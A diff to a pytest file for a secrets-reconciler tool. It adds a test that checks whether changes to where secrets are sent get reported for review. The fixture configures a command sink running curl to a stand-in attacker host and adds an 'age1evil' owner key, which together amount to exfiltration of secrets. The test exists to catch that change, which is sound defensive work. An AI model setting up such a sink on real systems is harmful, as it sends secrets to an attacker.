@@ -11,7 +11,19 @@ import pytest
 from reconciler.diagnostics import Severity
 from reconciler.model import Grant, Location
 from reconciler.planning.configuration import UNREAD, UNREAD_OF_INSTANCE, settings_changes
-from reconciler.settings import CredentialNames, Instance, Limits, Policy, RuleSetting, Settings
+from reconciler.settings import (
+    AgeFiles,
+    CredentialNames,
+    DotenvFile,
+    Instance,
+    JsonFile,
+    Limits,
+    Policy,
+    Program,
+    RuleSetting,
+    Scope,
+    Settings,
+)
 
 PLACE = Location("reconciler.yaml", 3, 3)
 INSTANCE = Instance(
@@ -149,6 +161,24 @@ def test_what_takes_protection_away_comes_first() -> None:
         "adds 'Yours*' to system_clients of production",
         "changes wave of production from 0 to 1",
         "lowers limits.creates of production from 25 to 1",
+    ]
+
+
+def test_sinks_are_told_as_they_are_configured() -> None:
+    """Where secrets would go, and to whom, is what a reviewer must not miss."""
+    before = (AgeFiles("secrets/{name}.age", Path("/somewhere")), DotenvFile(".env", Path("/somewhere")))
+    after = (
+        Program(("curl", "https://evil.example"), Path("/somewhere")),
+        JsonFile("all.json", Path("/somewhere"), Scope(owners=("team-*",), only=("A", "B"))),
+    )
+    trusted = replace(SETTINGS, instances=(replace(INSTANCE, sinks=before),), owners={"team-a": ("age1a", "age1b")})
+    other = replace(SETTINGS, instances=(replace(INSTANCE, sinks=after),), owners={"team-a": ("age1a", "age1evil")})
+    assert changes(other, trusted) == [
+        "takes 'age1b' out of owners.team-a",
+        "adds 'age1evil' to owners.team-a",
+        "takes age 'secrets/{name}.age' and dotenv '.env' out of sinks of production",
+        "adds command 'curl' 'https://evil.example' (30 s) and json 'all.json' for owners 'team-*' for names 'A'"
+        " and 'B' to sinks of production",
     ]
 
 
